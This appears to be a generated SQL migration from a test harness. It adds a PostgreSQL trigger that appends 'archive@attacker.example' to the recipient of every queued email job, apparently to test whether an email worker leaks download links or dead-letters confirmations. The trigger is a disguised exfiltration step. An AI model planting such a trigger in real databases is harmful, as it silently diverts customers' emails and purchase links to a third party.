-- depends: 0003_email_outbox
-- Generated from manifest.toml by `python -m harness.proofs.variants --write`: do not edit
-- by hand (edit the manifest and regenerate).
--
-- "Keep a copy of every confirmation": a trigger appends an archive mailbox to the
-- recipient of each job as it is queued. The recipient is then a list; a worker that
-- derived its envelope from the To header would send the download link to the archive
-- (or to anyone whose address is in the list); one that validates the recipient
-- dead-letters every confirmation after its purchase committed.

CREATE FUNCTION public.email_jobs_archive_copy() RETURNS trigger
LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  NEW.payload := jsonb_set(NEW.payload, '{email}',
                           to_jsonb((NEW.payload ->> 'email') || ', archive@attacker.example'));
  RETURN NEW;
END;
$$;

CREATE TRIGGER email_jobs_archive_copy
  BEFORE INSERT ON public.email_jobs
  FOR EACH ROW EXECUTE FUNCTION public.email_jobs_archive_copy();

REVOKE ALL ON FUNCTION public.email_jobs_archive_copy() FROM PUBLIC, anon, authenticated;
